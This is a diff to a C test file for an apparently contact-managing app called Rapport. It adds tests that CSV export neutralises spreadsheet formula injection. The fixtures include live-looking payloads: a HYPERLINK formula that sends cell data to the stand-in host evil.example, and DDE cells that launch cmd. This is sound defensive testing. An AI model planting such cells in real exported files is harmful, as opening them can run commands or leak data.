@@ -9,6 +9,7 @@
 
 #include <string.h>
 
+#include "rapport-import-private.h"
 #include "test-import-helpers.h"
 
 /* CSV {{{ */
@@ -287,6 +288,16 @@ test_csv_errors (void)
   assert_csv_error ("Name,Email,Company\nZoë,,\n,,Acme\n", RAPPORT_IMPORT_ERROR_INCOMPLETE, 3);
   assert_csv_error ("Name,Stage\nZoë,met\nAmélie,Interviewing\n", RAPPORT_IMPORT_ERROR_INVALID_VALUE, 3);
 
+  /* More tags on one row than Rapport keeps (duplicates count once). */
+  {
+    g_autoptr(GString) row = g_string_new ("Name,Tags\nZoë,\"");
+
+    for (guint i = 0; i <= RAPPORT_IMPORT_MAX_VALUES; i++)
+      g_string_append_printf (row, "tag %u; TAG %u; ", i, i);
+    g_string_append (row, "\"\n");
+    assert_csv_error (row->str, RAPPORT_IMPORT_ERROR_TOO_LARGE, 2);
+  }
+
   /* No header to guess from. */
   contacts = rapport_csv_parse ("a,b\nc,d\n", 8, &error);
   g_assert_null (contacts);
@@ -301,7 +312,7 @@ test_csv_round_trip (void)
   g_autoptr(GPtrArray) parsed = NULL;
   g_autoptr(GError) error = NULL;
   g_autofree RapportCsvField *mapping = NULL;
-  g_autofree char *text = rapport_csv_write (contacts);
+  g_autofree char *text = rapport_csv_write (contacts, RAPPORT_CSV_WRITE_DEFAULT);
   g_autofree char *text_again = NULL;
   static const RapportCsvField expected[] = {
     RAPPORT_CSV_FIELD_DISPLAY_NAME, RAPPORT_CSV_FIELD_GIVEN_NAME, RAPPORT_CSV_FIELD_FAMILY_NAME,
@@ -332,8 +343,80 @@ test_csv_round_trip (void)
   g_assert_no_error (error);
   assert_contacts_equal (contacts, parsed, FALSE);
 
-  text_again = rapport_csv_write (parsed);
+  text_again = rapport_csv_write (parsed, RAPPORT_CSV_WRITE_DEFAULT);
   g_assert_cmpstr (text_again, ==, text);
+}
+
+/* Cells a spreadsheet would run, as a stranger's LinkedIn file may bring
+ * them: exported behind an apostrophe, and read back without it. */
+static void
+test_csv_formulas (void)
+{
+  static const char *hostile[][3] = {
+    /* name, organisation, notes */
+    { "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0" },
+    { "-2+3", "'=already quoted", "'plain apostrophe" },
+    { "Zoë Ødegård", "Nordlys", "\tTabbed" },
+  };
+  g_autoptr(GPtrArray) contacts = g_ptr_array_new_with_free_func (g_object_unref);
+  g_autoptr(GPtrArray) parsed = NULL;
+  g_autoptr(GError) error = NULL;
+  g_autofree char *guarded = NULL;
+  g_autofree char *verbatim = NULL;
+  const char *phones[] = { "+44 20 7946 0958", NULL };
+
+  for (guint i = 0; i < G_N_ELEMENTS (hostile); i++)
+    {
+      RapportContact *contact = rapport_contact_new ();
+
+      rapport_contact_set_display_name (contact, hostile[i][0]);
+      rapport_contact_set_organisation (contact, hostile[i][1]);
+      rapport_contact_set_notes (contact, hostile[i][2]);
+      rapport_contact_set_phones (contact, phones);
+      g_ptr_array_add (contacts, contact);
+    }
+
+  guarded = rapport_csv_write (contacts, RAPPORT_CSV_WRITE_DEFAULT);
+  g_assert_nonnull (strstr (guarded, "\r\n\"'=HYPERLINK(\"\"http"));
+  g_assert_nonnull (strstr (guarded, ",'+cmd|' /C calc'!A0,"));
+  g_assert_nonnull (strstr (guarded, ",'@SUM(1+1)*cmd|'/C calc'!A0\r\n"));
+  g_assert_nonnull (strstr (guarded, "\r\n'-2+3,"));
+  g_assert_nonnull (strstr (guarded, ",''=already quoted,"));
+  g_assert_nonnull (strstr (guarded, "'+44 20 7946 0958"));   /* a spreadsheet shows it as typed */
+  g_assert_nonnull (strstr (guarded, "\r\nZoë Ødegård,"));   /* nothing else changes */
+
+  /* No cell of the file begins with a character that starts a formula. */
+  {
+    g_autoptr(GPtrArray) rows = rapport_csv_read (guarded, strlen (guarded), &error);
+
+    g_assert_no_error (error);
+    for (guint r = 0; r < rows->len; r++)
+      {
+        RapportCsvRow *row = g_ptr_array_index (rows, r);
+
+        for (guint f = 0; f < row->n_fields; f++)
+          g_assert_null (strchr ("=+-@\t\r", row->fields[f][0] != '\0' ? row->fields[f][0] : 'x'));
+      }
+  }
+
+  parsed = rapport_csv_parse (guarded, strlen (guarded), &error);
+  g_assert_no_error (error);
+  g_assert_cmpuint (parsed->len, ==, G_N_ELEMENTS (hostile));
+  for (guint i = 0; i < G_N_ELEMENTS (hostile); i++)
+    {
+      RapportContact *contact = g_ptr_array_index (parsed, i);
+
+      g_assert_cmpstr (rapport_contact_get_display_name (contact), ==, hostile[i][0]);
+      g_assert_cmpstr (rapport_contact_get_organisation (contact), ==, hostile[i][1]);
+      g_assert_cmpstr (rapport_contact_get_phones (contact)[0], ==, phones[0]);
+    }
+  g_assert_cmpstr (rapport_contact_get_notes (g_ptr_array_index (parsed, 0)), ==, hostile[0][2]);
+  g_assert_cmpstr (rapport_contact_get_notes (g_ptr_array_index (parsed, 1)), ==, hostile[1][2]);
+
+  /* For tools that evaluate nothing: every cell as it is. */
+  verbatim = rapport_csv_write (contacts, RAPPORT_CSV_WRITE_VERBATIM);
+  g_assert_nonnull (strstr (verbatim, "\r\n\"=HYPERLINK("));
+  g_assert_nonnull (strstr (verbatim, ",+44 20 7946 0958,"));
 }
 
 /* }}} */
@@ -347,4 +430,5 @@ add_csv_tests (void)
   g_test_add_func ("/import/csv/guess", test_csv_guess);
   g_test_add_func ("/import/csv/errors", test_csv_errors);
   g_test_add_func ("/import/csv/write/round-trip", test_csv_round_trip);
+  g_test_add_func ("/import/csv/write/formulas", test_csv_formulas);
 }
